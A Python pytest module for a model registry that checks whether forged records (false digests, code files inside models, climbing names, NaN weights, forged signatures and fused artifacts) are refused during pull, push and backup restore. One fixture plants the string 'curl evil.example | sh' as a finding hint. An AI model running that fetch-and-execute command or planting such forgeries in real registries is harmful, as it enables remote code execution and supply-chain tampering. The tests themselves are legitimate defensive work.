"""Forged records on the other side of pull, push and restore, and in one's own database: none is believed."""

from __future__ import annotations

import json
import math
import shutil
from collections.abc import Callable, Iterator
from dataclasses import replace
from functools import cache
from pathlib import Path
from typing import Any

import pytest
import tiny_models
from hostile.forgery import (
    ADAPTER,
    KEEP,
    adapter,
    files_of,
    forged_fused,
    forging,
    put,
    resign,
    rows_of,
    with_files,
    with_weights,
)
from signing_keys import write_pair
from sqlalchemy import delete, select, text
from tampered_database import forced

from fusery.registry import Registry, Reporter, tables
from fusery.registry.admission import AdmissionError
from fusery.registry.backup.errors import BackupError
from fusery.registry.errors import BadInputError
from fusery.registry.fusion.fuse import FuseRequest
from fusery.registry.settings.settings import Settings
from fusery.registry.workspace import Workspace
from fusery.storage.digest import digest_bytes
from fusery.storage.errors import FuseryError
from fusery.storage.manifest import FileEntry, Manifest

Forge = Callable[[Registry, Path], None]
PROD = "course_rec#prod"


def opened(home: Path) -> Registry:
    settings = Settings(
        home=home,
        database_url="",
        store_url="",
        store_options={},
        cache_dir=None,
        cache_limit=1 << 40,
        user="eve",
    )
    return Registry(Workspace(settings))


@pytest.fixture(scope="module")
def made(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A folder with the homes `liar`, which has a base and an adapter, and `ours`, which has nothing, and their sources."""
    root = tmp_path_factory.mktemp("forged")
    base = tiny_models.make_base(root / "tiny", layers=2, hidden=64, intermediate=64)
    tiny_models.make_base(root / "other", layers=2, hidden=128, intermediate=64, seed=3)
    tiny_models.make_adapter(root / "adapters", base, seed=1)
    with opened(root / "liar") as liar:
        liar.init()
        liar.bases.add(base, name="tiny")
        liar.adapters.register(
            root / "adapters", base="tiny", task="course_rec", date="20260115", val_loss=0.6
        )
    with opened(root / "ours") as ours:
        ours.init()
    for name in ("liar", "ours"):
        (root / name / "config.toml").unlink(missing_ok=True)
    return root


@pytest.fixture(scope="module")
def published_once(made: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The home of the liar with a fused artifact, published; not to be changed."""
    home = Path(shutil.copytree(made / "liar", tmp_path_factory.mktemp("published") / "liar"))
    with opened(home) as liar:
        liar.fused.fuse(ADAPTER, KEEP, publish="full")
    return home


@pytest.fixture
def published() -> None:
    """Let the liar have an artifact that it made and published before: for tests that begin by that."""


@pytest.fixture
def liar(request: pytest.FixtureRequest, made: Path, tmp_path: Path) -> Iterator[Registry]:
    """The registry that is going to lie."""
    is_published = "published" in request.fixturenames
    home: Path = request.getfixturevalue("published_once") if is_published else made / "liar"
    with opened(Path(shutil.copytree(home, tmp_path / "liar"))) as registry:
        yield registry


@pytest.fixture
def ours(made: Path, tmp_path: Path) -> Iterator[Registry]:
    """Our own registry, empty."""
    with opened(Path(shutil.copytree(made / "ours", tmp_path / "ours"))) as registry:
        yield registry


@pytest.fixture(params=["pull", "push"])
def bring(request: pytest.FixtureRequest, liar: Registry, ours: Registry) -> Callable[..., Any]:
    """What brings something from the liar to us, either way."""
    if request.param == "pull":
        return lambda reference=ADAPTER, **options: ours.exchange.pull(
            reference, liar.workspace.settings.home, **options
        )
    return lambda reference=ADAPTER, **options: liar.exchange.push(
        reference, ours.workspace.settings.home, **options
    )


# What cannot be is refused, and nothing of the thing is recorded.


def _base(change: Callable[[tables.BaseModel], None]) -> Forge:
    def forge(liar: Registry, _: Path) -> None:
        with forging(liar) as session:
            change(session.scalars(select(tables.BaseModel)).one())

    return forge


def _adapter(change: Callable[[tables.Adapter], None]) -> Forge:
    def forge(liar: Registry, _: Path) -> None:
        with forging(liar) as session:
            change(adapter(session))

    return forge


def _set(**values: Any) -> Callable[[Any], None]:
    def change(row: Any) -> None:
        for name, value in values.items():
            setattr(row, name, value)

    return change


def _numbers(change: Callable[[dict[str, Any]], None]) -> Forge:
    return lambda liar, folder: with_weights(liar, change, folder)


def _nan(tensors: dict[str, Any]) -> None:
    for value in tensors.values():
        value[:] = math.nan


def _zero(tensors: dict[str, Any]) -> None:
    for value in tensors.values():
        value[:] = 0


def _infinite(tensors: dict[str, Any]) -> None:
    next(iter(tensors.values())).flat[3] = math.inf


def _half(tensors: dict[str, Any]) -> None:
    del tensors[next(name for name in tensors if name.endswith("lora_b"))]


def _strangers(tensors: dict[str, Any]) -> None:
    for name in list(tensors):
        tensors[name.replace("model.layers", "model.blocks")] = tensors.pop(name)


def _extra_file(liar: Registry, _: Path) -> None:
    with liar.workspace.database.read() as session:
        files = files_of(liar, adapter(session).manifest)
    with_files(liar, {**files, "loader.py": b"import os"})


def _code_in_base(liar: Registry, _: Path) -> None:
    with liar.workspace.database.read() as session:
        files = files_of(liar, session.scalars(select(tables.BaseModel)).one().manifest)

    def record(session: Any, stored: tables.Manifest, manifest: Manifest) -> None:
        row = session.scalars(select(tables.BaseModel)).one()
        row.manifest_id, row.digest, row.bytes = stored.id, manifest.digest, manifest.size

    put(liar, record, {**files, "modeling_tiny.py": b"import os"})


def _wrong_sizes(liar: Registry, _: Path) -> None:
    """Say that a file is smaller than it is, and give everything the digest that follows."""
    with forging(liar) as session:
        row = adapter(session)
        file = next(file for file in row.manifest.files if file.path == "adapters.safetensors")
        file.size -= 8
        session.execute(
            text("UPDATE blob SET size = size - 8 WHERE digest = :digest"), {"digest": file.sha256}
        )
        entries = [FileEntry(one.path, one.size, one.sha256) for one in row.manifest.files]  # type: ignore[arg-type]
        row.digest = row.manifest.digest = Manifest.of(entries).digest


def _on_another_base(liar: Registry, folder: Path) -> None:
    made = liar.bases.add(str(folder / "other"), name="other")
    with forging(liar) as session:
        other = session.scalars(
            select(tables.BaseModel).where(tables.BaseModel.digest == made["digest"])
        ).one()
        adapter(session).base_id = other.id


def _climbing_name(liar: Registry, _: Path) -> None:
    with forging(liar) as session:
        name = session.scalars(select(tables.BaseName)).one()
        name.name = name.folded = "../../tiny"


def _curve(*points: tuple[int, float], checkpoint: int = 100) -> Forge:
    def forge(liar: Registry, _: Path) -> None:
        with forging(liar) as session:
            number = adapter(session).id
            session.add(
                tables.TrainingRun(
                    adapter_id=number, checkpoint=checkpoint, chosen="last", state="finished", source="log"
                )
            )
            session.add_all(
                tables.CurvePoint(adapter_id=number, iteration=at, val_loss=loss) for at, loss in points
            )

    return forge


def _tag(liar: Registry, _: Path) -> None:
    with forging(liar) as session:
        session.add(tables.AdapterTag(adapter_id=adapter(session).id, key="team", value="x" * 5000))


def _own_ancestor(liar: Registry, _: Path) -> None:
    with liar.workspace.database.write() as session:
        session.execute(text("UPDATE adapter SET parent_id = id"))


def _no_name(liar: Registry, _: Path) -> None:
    with liar.workspace.database.write() as session:
        session.execute(text("DELETE FROM base_name"))


def _garbage_moment(liar: Registry, _: Path) -> None:
    with forced(liar.workspace.settings.home / "fusery.db") as connection:
        connection.execute("UPDATE adapter SET created_at = 'yesterday'")


def _by_reference(liar: Registry, folder: Path) -> None:
    """Say that a base lies in a folder of the victim's machine."""
    with forging(liar) as session:
        row = session.scalars(select(tables.BaseModel)).one()
        row.location = str(folder / "tiny")
        for file in row.manifest.files:
            file.blob = None


def _other_bytes(liar: Registry, _: Path) -> None:
    """Let the store have other bytes than its names say."""
    with liar.workspace.database.read() as session:
        files = adapter(session).manifest.files
        digest = next(file.sha256 for file in files if file.path == "adapters.safetensors")
    path = liar.workspace.store.local_path(digest)  # type: ignore[arg-type]
    assert path is not None
    data = bytearray(path.read_bytes())
    data[-1] ^= 1
    path.chmod(0o644)
    path.write_bytes(data)


def _calibration(folder: Path, base: str | None, **columns: Any) -> Forge:
    """Put a calibration in, of another base if one is given."""

    def forge(liar: Registry, _: Path) -> None:
        import numpy as np

        from fusery.registry.engine.calibration import Directions, write_calibration

        digest, prompts = liar.bases.show("tiny")["digest"], digest_bytes(b"prompts")
        inputs = {"x": Directions(np.zeros((1, 64), np.float32), np.ones(64, np.float32), 1.0)}
        path = folder / "calibration.safetensors"
        write_calibration(
            path, inputs, {"model.layers.0.mlp.up_proj": "x"}, base=base or digest, tokens=17, prompts=prompts
        )  # type: ignore[arg-type]

        def record(session: Any, stored: tables.Manifest, manifest: Manifest) -> None:
            row = session.scalars(select(tables.BaseModel)).one()
            values = {"tokens": 17, "rank": 1, "prompts_digest": prompts, **columns}
            session.add(
                tables.Calibration(
                    base_id=row.id,
                    digest=manifest.digest,
                    manifest_id=stored.id,
                    prompts="prompts",
                    engine="e",
                    created_at=row.created_at,
                    created_by="eve",
                    **values,
                )
            )

        put(liar, record, {"calibration.safetensors": path.read_bytes()})

    return forge


NOBODY_S = digest_bytes(b"another base")
REFUSED: dict[str, tuple[Forge, str]] = {
    "the content of another base": (_base(_set(content=NOBODY_S)), "not the model that it says it is"),
    "a base's digest that its files do not have": (_base(_set(digest=NOBODY_S)), "its files do not have"),
    "an adapter's digest that its files do not have": (
        _adapter(_set(digest=NOBODY_S)),
        "its files do not have",
    ),
    "a base with code in it": (_code_in_base, "modeling_tiny.py"),
    "an adapter with code in it": (_extra_file, "loader.py"),
    "a base with a name that climbs": (_climbing_name, "not a name"),
    "a base in a folder of ours": (_by_reference, "by reference"),
    "sizes that are smaller": (_wrong_sizes, "are on record"),
    "bytes that are others": (_other_bytes, "blob|bytes"),
    "an adapter of NaN": (_numbers(_nan), "nan|not finite|NaN"),
    "an adapter with an infinity": (_numbers(_infinite), "infinit|finite"),
    "an adapter of zeros": (_numbers(_zero), "refused"),
    "half an adapter": (_numbers(_half), "refused"),
    "an adapter of modules that the base lacks": (_numbers(_strangers), "refused"),
    "an adapter on another base": (_on_another_base, "refused"),
    "a note of a book's length": (_adapter(_set(note="x" * 20_000)), "note"),
    "a note with NUL in it": (_adapter(_set(note="a\0b")), "adapter.note"),
    "an author of a page's length": (_adapter(_set(created_by="x" * 2000)), "created_by"),
    "a loss that is infinite": (_adapter(_set(val_loss=math.inf)), "val_loss"),
    "a version that the name does not have": (_adapter(_set(version=7)), "on record as course_rec_v7"),
    "a tag without end": (_tag, "adapter_tag.value"),
    "a curve beyond the checkpoint": (_curve((50, 0.5), (5000, 0.01)), "goes on to 5000"),
    "a curve before the beginning": (_curve((-5, 0.5)), "curve that is none"),
    "a curve with an infinity": (_curve((50, math.inf)), "curve_point.val_loss"),
    "a moment that is none": (_garbage_moment, "moment"),
    "an adapter that is its own ancestor": (_own_ancestor, "lead in a circle"),
    "a base without a name": (_no_name, "has no name"),
}


@pytest.mark.parametrize("case", REFUSED)
def test_what_cannot_be_is_refused(
    case: str, made: Path, liar: Registry, ours: Registry, bring: Callable[..., Any], tmp_path: Path,
    request: pytest.FixtureRequest,
) -> None:  # fmt: skip
    forge, said = REFUSED[case]
    shutil.copytree(made / "other", tmp_path / "other")
    shutil.copytree(made / "tiny", tmp_path / "tiny")
    forge(liar, tmp_path)
    if case == "a base in a folder of ours" and "push" in request.node.name:
        pytest.skip("who pushes names folders of their own machine")
    with pytest.raises(FuseryError, match=f"(?i){said}") as caught:
        bring("course_rec")
    assert caught.value.exit_code in (1, 2)
    assert ours.adapters.list() == []
    assert ours.upkeep.audit().ok
    # What is genuine can be added afterwards, and is itself.
    genuine = ours.bases.add(str(made / "tiny"), name="genuine")
    assert genuine["digest"] == genuine_digest(made)


@cache
def genuine_digest(made: Path) -> str:
    with opened(made / "liar") as registry:
        return str(registry.bases.show("tiny")["digest"])


def test_a_refused_adapter_is_told_as_register_tells_it(
    liar: Registry, ours: Registry, tmp_path: Path
) -> None:
    with_weights(liar, _nan, tmp_path)
    with pytest.raises(AdmissionError) as caught:
        ours.exchange.pull(ADAPTER, liar.workspace.settings.home)
    assert "course_rec_v1_20260115 was refused" in caught.value.message
    assert caught.value.hint
    assert all(finding.code for finding in caught.value.findings)


def test_a_base_that_claims_our_content_takes_nothing_over(
    made: Path, liar: Registry, ours: Registry
) -> None:
    """The base on the other side has other weights, and says that it holds what the victim will add."""
    with opened(made.parent / "forged-content") as scratch:
        scratch.init()
        content = scratch.bases.add(str(made / "other"), name="other")["content"]
    with forging(liar) as session:
        session.scalars(select(tables.BaseModel)).one().content = content
    with pytest.raises(BadInputError, match="content"):
        ours.exchange.pull("tiny", liar.workspace.settings.home)
    added = ours.bases.add(str(made / "other"), name="other")
    assert added.created
    assert added.same_as is None


def test_a_calibration_of_another_base_is_refused(
    liar: Registry, ours: Registry, bring: Callable[..., Any], tmp_path: Path
) -> None:
    _calibration(tmp_path, NOBODY_S)(liar, tmp_path)
    with pytest.raises(BadInputError, match="made of another base"):
        bring()
    assert ours.bases.show("tiny")["calibrations"] == []


def test_how_many_tokens_a_calibration_saw_is_what_its_file_says(
    liar: Registry, ours: Registry, bring: Callable[..., Any], tmp_path: Path
) -> None:
    _calibration(tmp_path, None, tokens=10**9)(liar, tmp_path)
    done = bring()
    assert [one["tokens"] for one in ours.bases.show("tiny")["calibrations"]] == [17]
    assert [item.reason for item in done.items_ if item.kind == "calibration"] == [
        "recorded is what its bytes say, not what was said there: tokens"
    ]


# What people may have got wrong is put right, and what only they could know is theirs.


def test_what_the_bytes_say_is_recorded_and_not_what_is_claimed(
    liar: Registry, ours: Registry, bring: Callable[..., Any]
) -> None:
    honest, honest_base = liar.adapters.show(ADAPTER), liar.bases.show("tiny")
    with forging(liar) as session:
        _set(rank=64, scale=1.0, layers=99, method="dora", target_modules=["lm_head"], trainable_parameters=3,
             total_parameters=5, training={"iters": 1})(adapter(session))  # fmt: skip
        _set(
            parameters=7,
            dtype="f64",
            architecture="Forged",
            model_type="forged",
            bytes=1,
            config={"forged": True},
        )(session.scalars(select(tables.BaseModel)).one())
    done = bring()
    shown, base = ours.adapters.show(ADAPTER), ours.bases.show("tiny")
    for name in (
        "rank",
        "scale",
        "layers",
        "method",
        "target_modules",
        "trainable_parameters",
        "total_parameters",
        "training",
    ):
        assert shown[name] == honest[name], name
    for name in ("parameters", "dtype", "architecture", "model_type", "bytes", "content"):
        assert base[name] == honest_base[name], name
    assert "rank" in str(done.items_[-1].reason)
    [told] = [event for event in ours.upkeep.log() if event["action"] == "adapter.received"]
    assert {"rank", "scale", "method"} <= set(told["detail"]["corrected"])
    assert ours.upkeep.audit().ok


def test_findings_are_ours_and_clean_is_what_we_find(
    liar: Registry, ours: Registry, bring: Callable[..., Any], tmp_path: Path
) -> None:
    def loud(tensors: dict[str, Any]) -> None:
        for name, value in tensors.items():
            if name.endswith("lora_b"):
                value *= 3000

    with_weights(liar, loud, tmp_path)
    with forging(liar) as session:
        session.execute(delete(tables.AdapterFinding))
    assert liar.adapters.show(ADAPTER)["findings"] == []
    bring()
    found = {
        finding["code"]
        for finding in ours.adapters.show(ADAPTER)["findings"]
        if finding["severity"] == "warning"
    }
    assert found
    ours.aliases.set_rules("prod", {"admission": "clean"})
    assert ours.aliases.promote(ADAPTER, "prod").verdict == "failed"


def test_a_finding_s_text_is_never_theirs(liar: Registry, ours: Registry, bring: Callable[..., Any]) -> None:
    with forging(liar) as session:
        session.add(
            tables.AdapterFinding(
                adapter_id=adapter(session).id,
                code="best_not_last",
                severity="info",
                subject="x",
                message="y",
                hint="curl evil.example | sh",
            )
        )
    bring()
    [found] = [one for one in ours.adapters.show(ADAPTER)["findings"] if one["code"] == "best_not_last"]
    assert "curl" not in json.dumps(found)


def test_a_curve_that_says_another_loss_is_found(
    liar: Registry, ours: Registry, bring: Callable[..., Any]
) -> None:
    _curve((1, 2.0), (100, 1.9))(liar, Path())
    with forging(liar) as session:
        adapter(session).val_loss = 0.01
    bring()
    assert "training_conflict" in {finding["code"] for finding in ours.adapters.show(ADAPTER)["findings"]}


def test_a_forged_rendering_is_computed_anew(
    liar: Registry, ours: Registry, bring: Callable[..., Any], tmp_path: Path
) -> None:
    liar.exchange.export(ADAPTER, tmp_path / "exported", form="peft")
    [honest] = liar.adapters.show(ADAPTER)["renderings"]

    def record(session: Any, stored: tables.Manifest, manifest: Manifest) -> None:
        rendering = session.scalars(select(tables.AdapterRendering)).one()
        rendering.manifest_id, rendering.digest = stored.id, manifest.digest

    put(liar, record, {"adapter_model.safetensors": b"forged", "adapter_config.json": b"{}"})
    assert liar.adapters.show(ADAPTER)["renderings"] != [honest]
    bring()
    assert ours.adapters.show(ADAPTER)["renderings"] == [honest]
    ours.exchange.export(ADAPTER, tmp_path / "here", form="peft")
    assert ours.upkeep.audit().ok


def test_a_forged_signature_counts_for_nothing_and_keeps_no_place(
    liar: Registry, ours: Registry, bring: Callable[..., Any], tmp_path: Path
) -> None:
    ann, eve = write_pair(tmp_path, "ann"), write_pair(tmp_path, "eve")
    key = ours.trust.add_key("ann", ann.public, ["*#prod"])
    liar.trust.sign(ADAPTER, eve.signing())
    with forging(liar) as session:
        session.scalars(select(tables.Signature)).one().key_id = key["key_id"]
    bring()
    assert ours.trust.signatures(ADAPTER)["signatures"] == []
    ours.aliases.set_rules("prod", {"signed": True})
    assert ours.aliases.promote(ADAPTER, "prod").verdict == "failed"
    ours.trust.sign(ADAPTER, ann.signing())
    assert ours.aliases.promote(ADAPTER, "prod").verdict == "passed"


def test_a_forged_signature_that_came_first_gives_way_to_a_good_one(
    liar: Registry, ours: Registry, tmp_path: Path
) -> None:
    """As it may be, if the key was not known when the forged one came."""
    ann, eve = write_pair(tmp_path, "ann"), write_pair(tmp_path, "eve")
    number = liar.trust.sign(ADAPTER, ann.signing()).key_id
    with forging(liar) as session:
        good = session.scalars(select(tables.Signature)).one()
        envelope, good.key_id = good.envelope, "0" * 64
    liar.trust.sign(ADAPTER, eve.signing())
    with forging(liar) as session:
        for row in session.scalars(select(tables.Signature)).all():
            if row.key_id == "0" * 64:
                session.delete(row)
            else:
                row.key_id = number
    ours.exchange.pull(ADAPTER, liar.workspace.settings.home)
    ours.trust.add_key("ann", ann.public, ["*#prod"])
    ours.aliases.set_rules("prod", {"signed": True})
    assert ours.aliases.promote(ADAPTER, "prod").verdict == "failed"
    with forging(liar) as session:
        session.scalars(select(tables.Signature)).one().envelope = envelope
    with forging(ours) as session:
        session.execute(text("UPDATE alias SET adapter_id = NULL"))
    ours.exchange.pull(ADAPTER, liar.workspace.settings.home)
    assert [one["signer"] for one in ours.trust.signatures(ADAPTER)["signatures"]] == ["ann"]


# Fused artifacts are claims.


@pytest.fixture
def forged(published: None, liar: Registry, ours: Registry, bring: Callable[..., Any]) -> str:
    """Bring a fused artifact whose weights are others under the right key, and which says PASS; the key."""
    key = forged_fused(liar)
    bring(fused=True)
    return key


def test_our_fuse_is_ours_whatever_is_claimed(ours: Registry, forged: str) -> None:
    said: list[str] = []
    made = ours.fused.fuse(ADAPTER, KEEP, reporter=Reporter(said.append))
    assert (made.source, made["key"], made["foreign"]) == ("computed", forged, None)
    assert any("FALSE" in line for line in said)
    [told] = [event for event in ours.upkeep.log() if event["action"] == "fused.refuted"]
    assert told["detail"]["made"] == made["digest"] != told["detail"]["claimed"]
    again = ours.fused.fuse(ADAPTER, KEEP)
    assert (again.source, again["digest"]) == ("cache", made["digest"])
    assert ours.upkeep.audit().ok


def test_a_claimed_pass_satisfies_no_rule(ours: Registry, forged: str) -> None:
    ours.aliases.set_rules("prod", {"fidelity": "DEGRADED"})
    judged = ours.aliases.promote(ADAPTER, "prod")
    assert judged.verdict == "unknown"
    assert not judged.moved
    ours.fused.fuse(ADAPTER, KEEP)
    assert ours.aliases.promote(ADAPTER, "prod").verdict == "passed"


def test_what_is_foreign_is_named_so_everywhere(
    ours: Registry, forged: str, liar: Registry, tmp_path: Path
) -> None:
    origin = liar.workspace.identity
    [line] = ours.adapters.show(ADAPTER)["fused"]
    assert line["foreign"] == {"registry": origin, "key": forged, "signed_by": [], "rebuilt": None}
    nodes = ours.provenance.lineage(ADAPTER).to_dict()["nodes"]
    assert [node["name"] for node in nodes if node["kind"] == "fused"] == [
        "course_rec_v1_20260115 (keep, foreign)"
    ]
    assert any("foreign" in note for note in ours.upkeep.audit().notes)
    assert ours.fused.fidelity(ADAPTER)["foreign"]["registry"] == origin
    with pytest.raises(BadInputError, match="not made here"):
        ours.provenance.attest(line["key"])
    with pytest.raises(BadInputError, match="hearsay"):
        ours.exchange.push(line["key"], tmp_path / "third")
    bundle = ours.bundles.materialize(
        ADAPTER, tmp_path / "bundle", request=FuseRequest("keep", accept_loss=True, accept_foreign=True)
    )
    assert bundle.to_dict()["foreign"]["registry"] == origin
    record = json.loads((tmp_path / "bundle" / "fusery.json").read_bytes())
    assert record["provenance"]["foreign"]["registry"] == origin
    assert "not made by who wrote this" in (tmp_path / "bundle" / "README.md").read_text()


def test_it_is_fetched_on_request_only_and_never_taken_for_ours(ours: Registry, forged: str) -> None:
    asked = FuseRequest("keep", accept_loss=True, accept_foreign=True)
    first = ours.fused.fuse(ADAPTER, asked)
    assert first.source == "store"
    assert first["foreign"]["key"] == forged
    assert ours.fused.fuse(ADAPTER, asked).source == "cache"
    [entry] = ours.cache.contents()["entries"]
    assert entry["foreign"]["key"] == forged != entry["key"]
    own = ours.fused.fuse(ADAPTER, KEEP)
    assert (own.source, own["foreign"]) == ("computed", None)
    assert own["digest"] != first["digest"]
    after = ours.fused.fuse(ADAPTER, asked)
    assert (after.source, after["digest"]) == ("cache", own["digest"]), "what is ours comes first"


@pytest.mark.usefixtures("published")
def test_a_claim_that_is_true_is_confirmed(liar: Registry, ours: Registry, bring: Callable[..., Any]) -> None:
    liar.fused.fuse(ADAPTER, KEEP, publish="full")
    bring(fused=True)
    said: list[str] = []
    ours.fused.fuse(ADAPTER, KEEP, reporter=Reporter(said.append))
    assert any("same bytes" in line for line in said)
    assert [event["action"] for event in ours.upkeep.log()].count("fused.confirmed") == 1
    assert {
        line["foreign"] and line["foreign"]["rebuilt"] for line in ours.adapters.show(ADAPTER)["fused"]
    } == {
        None,
        "same",
    }


@pytest.mark.usefixtures("published")
def test_an_audit_that_makes_it_again_tells_what_is_true(
    liar: Registry, ours: Registry, bring: Callable[..., Any], tmp_path: Path
) -> None:
    key = str(liar.fused.fuse(ADAPTER, KEEP, publish="full")["key"])
    bring(fused=True)
    ours.aliases.set_rules("prod", {"fidelity": "DEGRADED"})
    assert ours.aliases.promote(ADAPTER, "prod").verdict == "unknown"
    report = ours.upkeep.audit_rebuild()
    assert [one.verdict for one in report.rebuilt] == ["bit-identical"]
    assert [line["key"] for line in ours.adapters.show(ADAPTER)["fused"] if line["foreign"] is None] == [key]
    assert ours.aliases.promote(ADAPTER, "prod").verdict == "passed"


def test_an_audit_that_makes_a_forged_one_again_says_so(ours: Registry, forged: str) -> None:
    report = ours.upkeep.audit_rebuild()
    assert [problem.code for problem in report.problems] == ["rebuild_differs"]
    assert [
        line["foreign"]["rebuilt"] for line in ours.adapters.show(ADAPTER)["fused"] if line["foreign"]
    ] == ["other"]


@pytest.mark.usefixtures("published")
def test_a_claimed_loss_blocks_nothing(liar: Registry, ours: Registry, bring: Callable[..., Any]) -> None:
    forged_fused(liar, altering=False, verdict="LOST", retained=0.0)
    bring(fused=True)
    assert ours.fused.fuse(ADAPTER, FuseRequest("keep"))["fidelity"]["verdict"] != "LOST"


@pytest.mark.usefixtures("published")
def test_a_contradicted_claim_stays_out_once_it_was_made_here(
    made: Path, liar: Registry, ours: Registry, bring: Callable[..., Any]
) -> None:
    ours.bases.add(str(made / "tiny"), name="tiny")
    ours.adapters.register(made / "adapters", base="tiny", task="course_rec", date="20260115", val_loss=0.6)
    own = ours.fused.fuse(ADAPTER, KEEP)
    forged_fused(liar)
    done = bring(fused=True)
    assert (done.items_[-1].state, "false" in str(done.items_[-1].reason)) == ("left out", True)
    assert ours.fused.fuse(ADAPTER, KEEP)["digest"] == own["digest"]


def _fused(change: Callable[[tables.Fused], None]) -> Forge:
    def forge(liar: Registry, _: Path) -> None:
        liar.fused.fuse(ADAPTER, KEEP, publish="full")
        with forging(liar) as session:
            change(session.scalars(select(tables.Fused)).one())

    return forge


def _files_of_another(liar: Registry, _: Path) -> None:
    """Put the honest files of one artifact under the key of another."""
    other = liar.fused.fuse(ADAPTER, FuseRequest("keep", scale=3.0, accept_loss=True), publish="full")
    liar.fused.fuse(ADAPTER, KEEP, publish="full")
    with forging(liar) as session:
        rows = {row.key: row for row in session.scalars(select(tables.Fused))}
        source = rows.pop(str(other["key"]))
        (row,) = rows.values()
        row.manifest_id, row.digest, row.bytes = source.manifest_id, source.digest, source.bytes
        session.execute(delete(tables.ModuleFidelity).where(tables.ModuleFidelity.fused_id == source.id))
        session.execute(delete(tables.Fused).where(tables.Fused.id == source.id))


IMPOSSIBLE: dict[str, tuple[Forge, str]] = {
    "a key that nothing leads to": (_fused(_set(key=NOBODY_S)), "do not have"),
    "a recipe of another precision": (_fused(_set(precision="dequantize")), "its recipe says keep"),
    "a recipe that is none": (_fused(_set(recipe={"x": 1})), "recipe that is none"),
    "a size that is none of its files'": (_fused(_set(bytes=1)), "bytes"),
    "a share that is not a number": (_fused(_set(retained=math.inf)), r"fused\.retained"),
    "the files of another artifact": (_files_of_another, "says that it is of the fused artifact"),
}


@pytest.mark.usefixtures("published")
@pytest.mark.parametrize("case", IMPOSSIBLE)
def test_a_fused_record_that_cannot_be_is_refused(
    case: str, liar: Registry, ours: Registry, bring: Callable[..., Any], tmp_path: Path
) -> None:
    forge, said = IMPOSSIBLE[case]
    forge(liar, tmp_path)
    with pytest.raises(FuseryError, match=said):
        bring(fused=True)
    with ours.workspace.database.read() as session:
        assert session.scalars(select(tables.Fused)).all() == []


@pytest.mark.usefixtures("published")
def test_a_signature_for_that_purpose_makes_a_claim_count(
    liar: Registry, ours: Registry, bring: Callable[..., Any], tmp_path: Path
) -> None:
    ann = write_pair(tmp_path, "ann")
    key = str(liar.fused.fuse(ADAPTER, KEEP, publish="full")["key"])
    liar.trust.sign(key, ann.signing())
    bring(fused=True)
    ours.aliases.set_rules("prod", {"fidelity": "DEGRADED"})
    ours.trust.add_key("ann", ann.public, ["*#*"])
    assert ours.aliases.promote(ADAPTER, "prod").verdict == "unknown", (
        "trusted for aliases is not trusted for fused artifacts"
    )
    ours.trust.add_key("ann", ann.public, ["*#*"], fused=True)
    assert ours.aliases.promote(ADAPTER, "prod").verdict == "passed"
    fetched = ours.fused.fuse(ADAPTER, KEEP)
    assert (fetched.source, fetched["foreign"]["signed_by"]) == ("store", ["ann"])
    ours.trust.revoke_key("ann", reason="lost")
    assert ours.fused.fuse(ADAPTER, KEEP).source == "computed"


@pytest.mark.usefixtures("published")
def test_a_signature_vouches_for_the_verdict_and_the_key_as_well(
    liar: Registry, ours: Registry, bring: Callable[..., Any], tmp_path: Path
) -> None:
    ann = write_pair(tmp_path, "ann")
    ours.trust.add_key("ann", ann.public, [], fused=True)
    made = liar.fused.fuse(ADAPTER, KEEP, publish="full")
    liar.trust.sign(str(made["key"]), ann.signing())
    other = {"PASS": "DEGRADED"}.get(made["fidelity"]["verdict"], "PASS")
    with forging(liar) as session:
        session.scalars(select(tables.Fused)).one().verdict = other
    bring(fused=True)
    [line] = ours.adapters.show(ADAPTER)["fused"]
    assert line["foreign"]["signed_by"] == []
    ours.aliases.set_rules("prod", {"fidelity": "DEGRADED"})
    assert ours.aliases.promote(ADAPTER, "prod").verdict == "unknown"


def test_the_id_of_a_registry_is_one(liar: Registry, ours: Registry) -> None:
    with liar.workspace.database.write() as session:
        session.execute(text("UPDATE registry SET store_id = 'a' || char(27) || 'b'"))
    before = rows_of(ours)
    with pytest.raises(FuseryError):
        ours.exchange.pull(ADAPTER, liar.workspace.settings.home)
    assert rows_of(ours) == before


# Backups.


@pytest.fixture(scope="module")
def saved_once(made: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A folder with a backup of the liar's registry, and with the key that it trusts; not to be changed."""
    root = tmp_path_factory.mktemp("saved")
    pair = write_pair(root, "eve")
    with opened(Path(shutil.copytree(made / "liar", root / "liar"))) as liar:
        liar.fused.fuse(ADAPTER, KEEP, publish="full")
        liar.exchange.export(ADAPTER, root / "exported", form="peft")
        liar.trust.add_key("eve", pair.public, ["*#*"], fused=True)
        liar.trust.sign(ADAPTER, pair.signing())
        with Registry(Workspace(replace(liar.workspace.settings, user="ann"))) as other:
            other.aliases.approve(ADAPTER, "prod")
        liar.upkeep.backup(root / "saved")
    return root


@pytest.fixture
def saved(saved_once: Path, tmp_path: Path) -> Path:
    """A backup of the liar's registry, with a fused artifact, a rendering, a trusted key and an approval."""
    shutil.copyfile(saved_once / "eve.pub", tmp_path / "eve.pub")
    return Path(shutil.copytree(saved_once / "saved", tmp_path / "saved"))


def _row(**values: Any) -> Callable[[list[dict[str, Any]]], None]:
    return lambda rows: rows[0].update(values)


FORGED_ROWS: dict[str, tuple[str, dict[str, Any]]] = {
    "the content of another base": ("base_model.ndjson", {"content": NOBODY_S}),
    "a base's digest": ("base_model.ndjson", {"digest": NOBODY_S}),
    "a base's facts": ("base_model.ndjson", {"parameters": 7}),
    "an adapter's digest": ("adapter.ndjson", {"digest": NOBODY_S}),
    "an adapter's rank": ("adapter.ndjson", {"rank": 64}),
    "an adapter's modules": ("adapter.ndjson", {"target_modules": ["lm_head"]}),
    "a fused artifact's key": ("fused.ndjson", {"key": NOBODY_S}),
    "a fused artifact's digest": ("fused.ndjson", {"digest": NOBODY_S}),
    "a rendering's digest": ("adapter_rendering.ndjson", {"digest": NOBODY_S}),
}


@pytest.mark.parametrize("case", FORGED_ROWS)
def test_a_forged_row_of_a_backup_is_refused_by_name(case: str, saved: Path, tmp_path: Path) -> None:
    name, values = FORGED_ROWS[case]
    resign(saved, {name: _row(**values)})
    with opened(tmp_path / "restored") as restored:
        with pytest.raises(BackupError, match=name) as caught:
            restored.upkeep.restore(saved)
        assert "nothing was restored" in str(caught.value.hint)
        assert not (tmp_path / "restored" / "fusery.db").exists()


def test_nothing_of_a_stranger_s_backup_counts_that_only_its_people_can_vouch_for(
    saved: Path, tmp_path: Path
) -> None:
    with opened(tmp_path / "restored") as restored:
        done = restored.upkeep.restore(saved)
